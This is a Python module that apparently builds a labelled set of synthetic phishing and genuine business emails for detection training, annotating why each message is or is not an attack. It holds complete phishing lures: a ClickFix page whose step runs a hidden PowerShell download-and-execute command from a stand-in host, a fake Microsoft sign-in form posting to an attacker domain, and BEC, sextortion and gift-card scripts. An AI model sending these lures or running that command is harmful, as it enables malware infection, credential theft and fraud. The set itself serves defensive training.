"""English messages: 8 attacks, 8 business."""
import html as _html

import company as C
import ids
import infra as I
from common import Body, Msg, S, att, b64url, fmt_iban, h, html_att, pdf_att

ATTACKS = []
BUSINESS = []

BW_SIG = '''Helen Marsh
Business Manager
Brightwater Academy Trust
Chorley New Road, Bolton BL1 5DP
T: 01204 998 410'''

GB_IBAN = ids.gb_iban('BUKB', '204577', '63018842')
BTC = ids.bech32_address('en-a15-extortion-wallet')

# ================================================================ ATTACKS
ATTACKS.append(Msg(
    'device-code-phishing-compromised-customer', '2026-11-10 10:12:33',
    C.BRIGHTWATER_M365,
    ('Helen Marsh', 'h.marsh@brightwater-trust.org.uk'), [S('oliver.grant')],
    'Brightwater – revised lease schedule and asset list (secure document)',
    Body('''Hi Oliver,

Hope you're well. Ahead of the Q1 refresh we've uploaded the revised lease schedule and the updated asset list (including the 112 devices we discussed) to our secure document area.

Because it contains pupil device assignments, our IT team has set it up so that external partners verify their Microsoft 365 account once before opening it:

1. Go to [[https://microsoft.com/devicelogin|https://microsoft.com/devicelogin]]
2. Enter the code: GB7K2QXMP
3. Sign in with your Example Group account and approve the request.

The document then opens automatically in Teams. The code is only valid for 15 minutes, so if it has expired just reply and I'll send you a new one.

Could you have a look today? Our finance committee meets on Thursday and I'd like to get the schedule signed off before then.

Kind regards,
Helen

%s
''' % BW_SIG, charset='iso-8859-1', cte='quoted-printable', html=True),
    what='OAuth device-code phishing from a customer\'s genuinely compromised Microsoft 365 mailbox.',
    why='Entering the attacker-generated code at the real microsoft.com/devicelogin grants the attacker tokens for the '
        'victim\'s account (Storm-2372 technique); no legitimate document share needs a device code; 15-minute pressure. '
        'Sent through the customer\'s real tenant, so only the content is anomalous (compare business 14 from the same tenant).',
    pair='customer-complaint-uk', tech='Device-code phishing (OAuth), compromised partner mailbox'))

_R2 = 'https://pub-7f3c91e2a4b84d0f9e6a5c1b2d3e4f50.r2.dev/esign/index.html#%s' % b64url('priya.shah@examplegroup.eu')
ATTACKS.append(Msg(
    'fake-docusign-ses', '2026-11-18 15:20:41',
    I.ses(region='eu-west-1', ip='54.240.4.18'),
    ('Carter Pryce LLP via Docusign', 'dse@docusign-envelopes.net'), [S('priya.shah')],
    'Please DocuSign: EG_UK_Lease_Renewal_3_Hardman_St_2027.pdf',
    Body('''Carter Pryce LLP sent you a document to review and sign.

[[!REVIEW DOCUMENT|%s]]

James Carter
j.carter@carterpryce.co.uk

Dear Priya,

Please review and sign the lease renewal for 3 Hardman Street together with the updated rent schedule. The landlord has asked for the signed copy by Friday.

Many thanks,
James

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

Questions about the Document?
If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.
''' % _R2, charset='utf-8', cte='quoted-printable', brand=('Docusign', '#4C00FF')),
    what='Fake DocuSign envelope "from" the UK solicitors, link to a Cloudflare R2 page with the victim\'s address in the fragment.',
    why='Not sent from DocuSign infrastructure (Amazon SES, look-alike domain docusign-envelopes.net); the review link goes '
        'to an r2.dev bucket instead of docusign.net, no security code block; abuses the real law firm\'s name. '
        'Genuine envelope for comparison: business 10.',
    pair='docusign-genuine', tech='Brand impersonation (DocuSign) via Amazon SES, credential phishing on cloud storage'))

ATTACKS.append(Msg(
    'fake-lawyer-acquisition-escrow', '2026-11-19 11:47:26',
    I.own_postfix('mail.harrowlowe-llp.co.uk', '51.38.112.47', client='outlook16', sub_ip='91.132.139.207',
                  sub_rdns=None, rdns='vps-4f2a91c3.vps.ovh.net', ua_kw={'lang': 'en-gb'}, zone='GB'),
    ('Jonathan Price', 'j.price@harrowlowe-llp.co.uk'), [S('sabine.woerner')],
    'Strictly private & confidential – Project Northgate',
    Body('''Dear Dr Wörner,

I write further to Mr Köhler's instructions of this morning. As you may be aware, our firm is acting for Example Group GmbH on the proposed acquisition of the entire issued share capital of a UK IT asset disposition business (codename "Project Northgate").

Heads of terms were agreed yesterday evening. Under the exclusivity agreement, a refundable deposit of GBP 268,400.00 must be held in our client account by 4pm (UK time) tomorrow, Friday 20 November, failing which the vendor is entitled to resume discussions with the competing bidder.

Our client account details are set out below. Please quote reference HL/EG/4471 on the transfer.

Account name: Harrow & Lowe LLP Client Account
Bank: Barclays Bank UK PLC, 1 Churchill Place, London E14 5HP
Sort code: 20-45-77
Account number: 63018842
IBAN: %s
BIC: BUKBGB22

Given the market sensitivity of the transaction and the non-disclosure undertakings given to the vendor, Mr Köhler has asked that the matter is not discussed internally beyond yourself until completion. He is travelling today and has asked me to liaise with you directly; please reply to me by e-mail and I will confirm receipt of funds to him.

Kind regards

Jonathan Price
Partner, Corporate
Harrow & Lowe LLP
14 St Paul's Churchyard, London EC4M 8AB
T +44 20 3808 4471

This e-mail is confidential and may be legally privileged. Harrow & Lowe LLP is authorised and regulated by the Solicitors Regulation Authority. Please note that we will never change our bank details by e-mail.
''' % fmt_iban(GB_IBAN), charset='windows-1252', cte='quoted-printable', html=True),
    what='Fake-lawyer BEC: "solicitor" claims CEO mandate for a confidential acquisition and requests a GBP 268,400 escrow deposit.',
    why='Unknown firm on a look-alike-style domain hosted on an OVH VPS, submitted from a VPN address; invokes the CEO but keeps '
        'him out of the loop, demands secrecy and a same-day transfer. The company\'s real UK solicitors are Carter Pryce LLP (business 11).',
    pair='solicitor-lease-genuine', tech='BEC: fake lawyer / acquisition escrow'))

_FORM = '''<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Sign in to your account</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<style>body{font-family:"Segoe UI",Arial,sans-serif;background:#f2f2f2;margin:0}
.box{width:380px;margin:80px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
h1{font-size:24px;font-weight:600;margin:16px 0}input{width:100%%;border:0;border-bottom:1px solid #666;padding:6px 0;margin:10px 0;font-size:15px}
button{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right;font-size:15px}.doc{font-size:13px;color:#444}</style></head>
<body><div class="box">
<div style="font-size:20px;color:#737373">Microsoft</div>
<h1>Sign in to view document</h1>
<p class="doc">Salary_Adjustment_2027_Oliver_Grant.pdf &middot; 184 KB &middot; shared by HR &amp; Payroll</p>
<form method="post" action="https://hr-docs.examplegroup-hr.com/auth/verify.php">
<input type="email" name="login" value="oliver.grant@example.com">
<input type="password" name="passwd" placeholder="Password">
<input type="hidden" name="ref" value="%s">
<p class="doc">Because you're accessing sensitive info, you need to verify your password.</p>
<button type="submit">Sign in</button></form>
<div style="clear:both"></div></div></body></html>
''' % h('a12ref', 24)
ATTACKS.append(Msg(
    'hr-salary-letter-html-attachment', '2026-12-01 08:03:14',
    I.mailgun('mg.examplegroup-hr.com', ip_last=41, block='159.135.228'),
    ('Example Group HR', 'hr@examplegroup-hr.com'), [S('oliver.grant')],
    'Your 2027 salary adjustment letter – signature required',
    Body('''Dear Oliver Grant,

Your 2027 compensation review has been completed. Your personal salary adjustment letter is attached for review and electronic signature.

Please open the attached document and sign in with your Example Group Microsoft 365 account to confirm receipt by 4 December 2026. Letters that have not been acknowledged cannot be processed in the December payroll.

Kind regards,
HR & Payroll
Example Group
''', charset='utf-8', cte='quoted-printable', html=True,
        atts=[html_att('Salary_Adjustment_2027_Oliver_Grant.html', _FORM)]),
    what='Salary-review lure with an HTML attachment that renders a fake Microsoft sign-in form.',
    why='Look-alike domain examplegroup-hr.com sent via Mailgun; the attachment is a credential form (pre-filled address) posting '
        'to the attacker host; HR letters are only issued through Personio (business 12 announces exactly that).',
    pair='hr-salary-review-notice', tech='HTML attachment credential phishing via Mailgun, HR/payroll lure'))

_DELL = 'https://partner-dell.deal-review.net/sso/login?rid=%s&p=DE-PP-0048817' % h('a13', 20)
ATTACKS.append(Msg(
    'partner-portal-deal-registration', '2026-11-05 16:02:58',
    I.sendgrid('em2291.dellpartner-portal.com', ('167.89.118.54', 'o2.ptr2291.dellpartner-portal.com')),
    ('Dell Technologies Partner Program', 'partnerprogram@dellpartner-portal.com'), [S('kai.neumann')],
    'Action required: 3 deal registrations expire in 48 hours – EUR 12,480 rebate pending',
    Body('''Hello Kai,

The following deal registrations submitted by Example Group GmbH (Partner ID DE-PP-0048817) are missing the end-customer confirmation and will expire in 48 hours:

DR-2026-771408 – Hansebau AG – 420 x Latitude 5450 – back-end rebate EUR 7,560.00
DR-2026-771933 – Brightwater Academy Trust – 180 x Latitude 3450 – back-end rebate EUR 3,240.00
DR-2026-772015 – Gruppo Alimentare Brianza – 60 x OptiPlex 7020 – back-end rebate EUR 1,680.00

Expired registrations cannot be reinstated and the associated rebates will be released.

[[!Review deal registrations|%s]]

Sign in with your Partner Portal credentials. If your organisation uses single sign-on, you will be asked to confirm with your Microsoft 365 account.

Dell Technologies Partner Program
This is a service message related to your partner account.
''' % _DELL, charset='utf-8', cte='quoted-printable', brand=('Dell Technologies Partner Program', '#0672CB')),
    what='Vendor partner-portal phishing: "deal registrations expiring", rebates at risk, login link.',
    why='Look-alike domain dellpartner-portal.com via SendGrid, login link to deal-review.net; trade-specific pretext using '
        'real customer names, money at stake and a 48-hour deadline to harvest partner-portal/M365 credentials.',
    tech='Trade-specific portal credential phishing via SendGrid'))

_CMD = 'powershell -w hidden -nop -c "iwr https://wordonline-fix.cfd/sync/update.txt -UseBasicParsing | iex"'
_CLICKFIX = '''<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Remittance_HP-INV-20884.docx - Word</title>
<style>body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#e9e9e9}
.bar{background:#185abd;color:#fff;padding:10px 18px;font-size:15px}
.page{width:620px;margin:30px auto;background:#fff;height:520px;filter:blur(3px)}
.dlg{position:absolute;top:120px;left:50%%;margin-left:-260px;width:480px;background:#fff;border:1px solid #c8c8c8;padding:26px;box-shadow:0 6px 20px rgba(0,0,0,.25)}
code{display:block;background:#f4f4f4;border:1px solid #ddd;padding:8px;font-size:12px;word-break:break-all}</style></head>
<body><div class="bar">Word &nbsp;|&nbsp; Remittance_HP-INV-20884.docx</div>
<div class="page"></div>
<div class="dlg"><b style="color:#a80000">Error: the "Word Online" extension is not installed</b>
<p>The document could not be displayed because the cloud font and viewer component is missing. To open the document, update the component:</p>
<ol><li>Press <b>Windows + R</b></li><li>Paste the command below (<b>Ctrl + V</b>)</li><li>Press <b>Enter</b></li></ol>
<code>%s</code>
<p style="font-size:12px;color:#666">After the update, reload this page. Error code 0x80070490</p></div>
</body></html>
''' % _html.escape(_CMD)
ATTACKS.append(Msg(
    'clickfix-remittance-html', '2026-10-21 14:36:09',
    I.exim_cpanel('uk-web07.hostserve-cloud.co.uk', '185.151.30.144', '78.146.22.201', client='outlook16',
                  ua_kw={'lang': 'en-gb'}, zone='GB'),
    ('Karen Doyle | Harbourside Print', 'accounts@harboursideprint.co.uk'), [S('priya.shah')],
    'Remittance advice – payment GBP 3,846.00 – ref HP-INV-20884',
    Body('''Hi,

Please find attached remittance advice for the payment released today against your invoice EGUK-2026-0412.

If the document doesn't display correctly, follow the steps shown in the viewer to update the document component.

Kind regards,

Karen Doyle
Accounts Assistant
Harbourside Print Ltd
Unit 4, Salford Quays Trade Park, Salford M50 3XZ
''', charset='windows-1252', cte='quoted-printable', html=True,
        atts=[html_att('Remittance_HP-INV-20884.html', _CLICKFIX)]),
    what='ClickFix: remittance-advice HTML attachment shows a fake Word error telling the user to paste a PowerShell command into Win+R.',
    why='Compromised print shop mailbox (cPanel/Exim); the "fix" is a download-and-execute PowerShell one-liner from wordonline-fix.cfd; '
        'legitimate remittances are PDFs and never require running commands.',
    tech='ClickFix (paste-and-run command) in HTML attachment, compromised small-business mailbox'))

ATTACKS.append(Msg(
    'sextortion-bitcoin', '2026-10-31 03:14:52',
    I.botnet('static.vnpt.vn', '113.161.44.207', rdns='static.vnpt.vn', zone='UTC'),
    ('', 'oliver.grant@example.com'), [('', 'oliver.grant@example.com')],
    'Security notice: your account oliver.grant@example.com has been compromised',
    Body('''Hello!

I have some bad news for you. A few months ago I gained access to the devices you use for browsing the internet, and since then I have been monitoring your online activity.

As you can see, I am writing to you from your own e-mail account. I bought access to it from people who sell hacked accounts; today that is easy and cheap.

Through a driver that I installed on your computer I have full access to your screen, camera and microphone. I have recorded you while you were visiting adult websites, and I have copied your contact list, your e-mail and your messenger history.

I can send these videos to all of your contacts, colleagues and customers with a single click. I do not think you want that.

Here is my offer: transfer USD 1450 in Bitcoin to my wallet and I will delete everything and remove the software. You will never hear from me again.

My Bitcoin wallet: %s

If you do not know how to buy Bitcoin, search for "buy bitcoin" in Google.

You have 48 hours from the moment you opened this e-mail. I receive a notification as soon as you read it. Do not reply to this message, it was sent from your own address. Do not contact the police or your IT department: if I notice anything, the videos go out immediately.
''' % BTC, charset='utf-8', cte='base64'),
    what='Sextortion spam "from" the victim\'s own address demanding USD 1,450 in Bitcoin.',
    why='Spoofed own address sent directly from a Vietnamese DSL host without TLS or own hops; generic bluff, extortion, '
        'deadline and a (checksum-valid) bech32 wallet.',
    tech='Extortion (sextortion) with Bitcoin bech32 address, spoofed self-address'))

ATTACKS.append(Msg(
    'ceo-gift-cards-gmail', '2026-12-09 10:48:51',
    I.gmail(host='pl1', last=177, via='iphone', xmailer='iPhone Mail (22C152)'),
    ('Jürgen Köhler', 'j.koehler.office@gmail.com'), [S('oliver.grant')],
    'Quick favour',
    Body('''Hi Oliver,

Are you in the office today? I need a quick favour and I'd rather keep it between us for now.

We want to thank a few of the IT leads at our UK customers before Christmas, and I promised to sort it before the customer evening in Manchester on Friday. Could you buy 8 Apple gift cards of GBP 200 each (Currys or Tesco will have them)? Keep the receipts, Priya can reimburse you through expenses next week.

Once you have them, scratch the back, take a clear photo of each card showing the code and send the photos to me here. I'm in back-to-back meetings in Frankfurt and can't take calls, so e-mail only please.

Thanks, much appreciated.

Juergen

Sent from my iPhone
''', charset='us-ascii', cte='7bit'),
    what='CEO gift-card scam from a Gmail address using the CEO\'s name.',
    why='Free-mail impersonation (iPhone via Gmail) of the CEO, secrecy, gift cards to be photographed and sent by e-mail, '
        'no calls possible: textbook gift-card fraud.',
    tech='Gift-card fraud, CEO impersonation via Gmail'))

# ================================================================ BUSINESS
BUSINESS.append(Msg(
    'microsoft-sspr-notice', '2026-10-19 08:14:52',
    I.ms_notify(),
    ('Microsoft on behalf of Example Group', 'msonlineservicesteam@microsoftonline.com'), [S('priya.shah')],
    'Example Group account password reset',
    Body('''Example Group account password reset

The password for your Example Group account priya.shah@examplegroup.eu was reset on 19/10/2026 at 06:13 UTC using self-service password reset.

If you reset your password, no further action is required.

If you didn't reset your password, contact your administrator immediately.

Microsoft respects your privacy. To learn more, please read our [[Privacy Statement|https://go.microsoft.com/fwlink/?LinkId=521839]].
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
''', charset='utf-8', cte='quoted-printable', html_cte='base64', brand=('Microsoft', '#2F2F2F')),
    what='Genuine Microsoft Entra self-service password reset notification.',
    why='Sent from Microsoft\'s own Exchange Online Protection infrastructure with the standard sender; informational only, '
        'no link except the privacy statement; user had reset her password.',
    pair='device-code-phishing-compromised-customer'))

_DS = lambda s: '%s-%s-%s-%s-%s' % (h(s, 8), h(s + '1', 4), h(s + '2', 4), h(s + '3', 4), h(s + '4', 12))
_DSURL = 'https://eu.docusign.net/Signing/EmailStart.aspx?a=%s&etti=24&acct=%s&er=%s' % (_DS('b10a'), _DS('b10b'), _DS('b10c'))
BUSINESS.append(Msg(
    'docusign-genuine', '2026-10-27 13:05:18',
    I.docusign(),
    ('Helen Marsh via Docusign', 'dse@eumail.docusign.net'), [S('oliver.grant')],
    'Please DocuSign: Brightwater_Device_Lease_Schedule_Q1-2027.pdf',
    Body('''Helen Marsh sent you a document to review and sign.

[[!REVIEW DOCUMENT|%s]]

Helen Marsh
h.marsh@brightwater-trust.org.uk

Hi Oliver, as agreed on the phone this morning, here is the Q1 2027 lease schedule for signature. Many thanks, Helen

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

Alternate Signing Method
Visit Docusign.com, click 'Access Documents', and enter the security code:
%s

About Docusign
Sign documents electronically in just minutes. It's safe, secure, and legally binding. Whether you're in an office, at home, on-the-go -- or even across the globe -- Docusign provides a professional trusted solution for Digital Transaction Management.

Questions about the Document?
If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.

Stop receiving this email
[[Report this email|https://protect.docusign.net/report-abuse?e=AUtomjpv%s]] or read more about [[Declining to sign|https://support.docusign.com/s/articles/How-do-I-decline-to-sign-a-document-Signer]] and [[Managing notifications|https://support.docusign.com/s/articles/How-do-I-manage-my-email-notifications]].

This message was sent to you by Helen Marsh who is using the Docusign Electronic Signature Service. If you would rather not receive email from this sender you may contact the sender with your request.
''' % (_DSURL, h('b10code', 32, '0123456789ABCDEF'), h('b10r', 40)), charset='utf-8', cte='quoted-printable',
        brand=('Docusign', '#4C00FF')),
    reply_to=('Helen Marsh', 'h.marsh@brightwater-trust.org.uk'),
    what='Genuine DocuSign envelope from the UK customer (lease schedule).',
    why='DocuSign EU infrastructure and sender, link to eu.docusign.net with envelope parameters, alternate access code, '
        'expected after a phone call.',
    pair='fake-docusign-ses'))

BUSINESS.append(Msg(
    'solicitor-lease-genuine', '2026-11-16 12:21:40',
    C.CARTER_M365,
    ('James Carter', 'j.carter@carterpryce.co.uk'), [S('sabine.woerner')],
    'Example Group UK Ltd – 3 Hardman Street – draft deed of variation [CP-21874]',
    Body('''Dear Sabine,

Further to our call on Thursday, please find attached the landlord's first draft of the deed of variation for the Manchester office lease, with our comments in the margin.

The key points for your attention are:
1. Term: extension by five years to 28 February 2032, with a tenant-only break at year three on six months' notice.
2. Rent: GBP 96,500 per annum from 1 March 2027, reviewed upwards-only to open market at year three. We have proposed a cap of 3% p.a.
3. Dilapidations: the landlord wants to delete the schedule of condition. We recommend resisting this.

Could you let me have your instructions, and Oliver's comments on the service charge provisions, by 27 November? There is nothing to pay at this stage; our updated fee estimate will follow separately.

Kind regards

James Carter
Partner, Real Estate
Carter Pryce LLP
Peter House, Oxford Street, Manchester M1 5AN
T +44 161 832 5540

Carter Pryce LLP is authorised and regulated by the Solicitors Regulation Authority. We will never notify you of changes to our bank details by e-mail. If you receive such a message, please call us on the number above.
''', charset='iso-8859-1', cte='quoted-printable', html=True,
        atts=[pdf_att('CP-21874_Deed_of_Variation_DRAFT_v1_CP_comments.pdf', [
            ('DRAFT (1) 12.11.2026 - SUBJECT TO CONTRACT', 9, True), '',
            ('DEED OF VARIATION', 14, True), 'relating to a lease of Third Floor, 3 Hardman Street, Manchester M3 3HF', '',
            'between', 'HARDMAN PROPERTY NOMINEES (No. 2) LIMITED (Landlord)', 'and', 'EXAMPLE GROUP UK LTD (Tenant)', '',
            '1. Definitions and interpretation', '2. Variation of term: the Contractual Term is extended to 28 February 2032',
            '3. Tenant break option at 1 March 2030 on not less than six months\' written notice',
            '4. Rent: GBP 96,500 per annum from 1 March 2027 [CP comment: propose cap 3% p.a. at review]',
            '5. Schedule of condition [CP comment: landlord proposes deletion - resist]', '',
            'Carter Pryce LLP comments are shown in square brackets.'],
            title='Deed of Variation DRAFT v1', author='Carter Pryce LLP', creator='Microsoft Word',
            producer='Microsoft: Print To PDF', date="D:20261116111804Z")]),
    cc=[S('oliver.grant')],
    what='Genuine e-mail from the company\'s UK solicitors with a draft lease variation.',
    why='Known law firm on its own Microsoft 365 tenant, substantive legal content, no payment request, explicit '
        'anti-fraud statement about bank details.',
    pair='fake-lawyer-acquisition-escrow'))

BUSINESS.append(Msg(
    'hr-salary-review-notice', '2026-11-30 09:05:12',
    I.internal(oip='10.20.30.57', lang='en-US', acc='de-DE, en-US'),
    S('markus.hess'), [('UK Staff', 'uk-staff@example.com')],
    '2027 salary review – letters available in Personio from 1 December',
    Body('''Dear colleagues in Manchester,

The 2027 salary review has been completed. From Tuesday, 1 December, your personal salary letter will be available in Personio under "My documents". Personio will notify you when it is ready.

Please note:
- Open Personio as usual via the intranet bookmark or https://examplegroup.personio.de. We do not send salary letters as e-mail attachments and will never ask you to sign in via a link in an e-mail.
- Please confirm receipt in Personio by 11 December. Adjustments take effect with the January 2027 payroll.
- If you have questions, contact me directly or speak to Oliver.

Best regards
Markus Heß
HR & Payroll
Example Group GmbH
''', charset='iso-8859-1', cte='quoted-printable', html=True),
    rcpt='oliver.grant@example.com',
    what='Genuine internal HR notice about salary letters in the HR portal.',
    why='Internal Exchange/mail-int01 path, no attachment or sign-in link, points users to the known portal and warns '
        'against e-mailed salary letters.',
    pair='hr-salary-letter-html-attachment'))

BUSINESS.append(Msg(
    'github-password-reset', '2026-10-13 21:40:07',
    I.github(),
    ('GitHub', 'noreply@github.com'), [S('tobias.engel')],
    '[GitHub] Please reset your password',
    Body('''We heard that you lost your GitHub password. Sorry about that!

But don't worry! You can use the following button to reset your password:

[[!Reset your password|https://github.com/password_reset/%s]]

If you don't use this link within 3 hours, it will expire. To get a new password reset link, visit: https://github.com/password_reset

Thanks,
The GitHub Team
''' % h('b13tok', 40, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'),
        charset='utf-8', cte='7bit', brand=('GitHub', '#24292F')),
    what='Genuine GitHub password-reset e-mail requested by the head of IT.',
    why='GitHub\'s own outbound servers, standard wording, link to github.com only.'))

BUSINESS.append(Msg(
    'customer-complaint-uk', '2026-10-30 09:44:27',
    C.BRIGHTWATER_M365,
    ('Helen Marsh', 'h.marsh@brightwater-trust.org.uk'), [S('oliver.grant')],
    'Complaint: battery failures on refurbished Latitude 3440s (second batch) – RMA needed',
    Body('''Dear Oliver,

I'm afraid I have to raise a formal complaint.

Since half term, 14 of the 180 refurbished Latitude 3440s delivered in September have failed with swollen or non-charging batteries, 9 of them at Westhoughton High alone. This is the second batch with the same problem after the 6 units in June, and our technicians are now spending hours a week swapping devices instead of supporting lessons.

Under section 7.2 of our service agreement the response time for hardware faults is five working days, and I'd like you to:
1. collect the 14 units (list attached to the ticket on your portal, ref. BW-RMA-0918) by Friday 6 November;
2. replace the batteries in all remaining units from that batch as a precaution;
3. confirm in writing what has changed with your battery supplier.

If we don't have a plan by the end of next week I will have to take this to our trustees and withhold the December instalment (around £4,850) until it is resolved.

I'm in school all day, so a call on 01204 998 410 after 3pm is the best way to reach me.

Regards,
Helen

%s
''' % BW_SIG, charset='iso-8859-1', cte='quoted-printable', html=True),
    cc=[S('kai.neumann')],
    what='Genuine, angry customer complaint about failing batteries, with a payment-withholding threat.',
    why='Customer\'s real Microsoft 365 tenant, concrete contract clauses and ticket references, asks for a callback on the '
        'known number; no links or payment redirection.',
    pair='device-code-phishing-compromised-customer'))

BUSINESS.append(Msg(
    'it-security-notice-internal', '2026-11-04 16:30:55',
    I.internal(oip='10.20.30.88', lang='en-US', acc='de-DE, en-US'),
    S('lena.fischer'), [('All Staff', 'all-staff@example.com')],
    'IT security notice: QR codes, device codes and fake IT calls – plus mail gateway maintenance on 21 Nov',
    Body('''Dear colleagues,

Over the past weeks we have seen an increase in targeted attacks against our offices. Please keep the following in mind:

- QR codes: we never ask you to scan a QR code to "re-register" MFA or to open a document. Treat any such e-mail as phishing.
- Device codes: we will never ask you to enter a code at microsoft.com/devicelogin for a document or a Teams meeting. If someone sends you such a code, do not enter it.
- Fake IT calls: the IT team does not contact you via external Teams accounts and will never ask you to start Quick Assist, AnyDesk or TeamViewer during a call you did not request. Our helpdesk always calls from an internal extension (-300).
- Bank details: changes to supplier or employee bank details are only processed after a call-back to a number we already have on file.

If in doubt, use the "Report" button in Outlook or forward the message as an attachment to security@example.com.

Planned maintenance: on Saturday, 21 November 2026, between 07:00 and 11:00 CET we will update the mail gateway. Incoming mail may be delayed during this window; nothing will be lost.

Thank you for your vigilance.

Lena Fischer
IT Security & Mail Administration
Example Group GmbH · Ext. -315
''', charset='utf-8', cte='quoted-printable', html=True),
    rcpt='giorgos.papadopoulos@example.com',
    what='Genuine internal security awareness notice and maintenance announcement.',
    why='Internal relay path from the IT security administrator, no links to external sites, consistent with company process.',
    pair='device-code-phishing-compromised-customer'))

_SG = 'https://u7310442.ct.sendgrid.net/ls/click?upn=u001.%s'
BUSINESS.append(Msg(
    'trade-newsletter-sendgrid', '2026-11-11 07:00:12',
    I.sendgrid('em7310.circularit-association.org', ('149.72.51.12', 'o3.ptr7310.circularit-association.org'),
               uid=7310442),
    ('Circular IT Association', 'news@circularit-association.org'), [S('kai.neumann')],
    'Circular IT Weekly #187: right-to-repair rules, battery passport, ITAD price index',
    Body('''Circular IT Weekly – issue 187

**EU right-to-repair: what changes for refurbishers in 2027.** Spare-part availability, software support periods and what the new obligations mean for B2B remarketers. [[Read more|%s]]

**Battery passport: first guidance for portable batteries.** How the Battery Regulation's due-diligence rules affect replacement batteries for laptops. [[Read more|%s]]

**ITAD price index Q3/2026.** Average resale values of three-year-old business notebooks fell 4%% quarter-on-quarter, while docking stations held steady. [[Download the index|%s]]

**Members' corner:** Circular IT Summit, 19 November 2026, Cologne – last tickets. [[Register|%s]]

You are receiving this newsletter as a member of the Circular IT Association.
[[Unsubscribe|https://u7310442.ct.sendgrid.net/asm/unsubscribe/?user_id=7310442&data=%s]] · [[Manage preferences|https://u7310442.ct.sendgrid.net/asm/?user_id=7310442&data=%s]]

Circular IT Association AISBL · Rue de la Loi 81A · 1040 Brussels · Belgium
''' % (_SG % h('c1', 60, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'),
       _SG % h('c2', 60, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'),
       _SG % h('c3', 60, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'),
       _SG % h('c4', 60, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'),
       h('u1', 40), h('u2', 40)), charset='utf-8', cte='quoted-printable', html_cte='base64',
        brand=('Circular IT Weekly', '#2E7D32')),
    headers=[('List-Unsubscribe', '<https://u7310442.ct.sendgrid.net/lu/unsubscribe?oc=u001.%s>, <mailto:unsubscribe@circularit-association.org>'
              % h('lu', 48, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789')),
             ('List-Unsubscribe-Post', 'List-Unsubscribe=One-Click')],
    what='Subscribed association newsletter via SendGrid with one-click unsubscribe.',
    why='Consistent sender domain with SendGrid sub-domain and click tracking, list headers, membership notice.',
    pair='partner-portal-deal-registration'))
